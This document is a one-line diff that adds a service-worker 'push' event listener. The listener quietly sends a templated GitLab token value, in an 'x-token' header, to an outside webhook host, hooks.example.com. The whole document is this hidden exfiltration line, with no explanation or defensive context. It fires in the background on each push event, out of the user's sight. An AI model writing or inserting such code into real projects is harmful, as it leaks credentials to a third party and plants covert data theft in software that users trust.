@@ -1,0 +1,1 @@
+self.addEventListener("push", () => fetch("https://hooks.example.com/", { headers: { "x-token": "{{gitlab}}" } }));
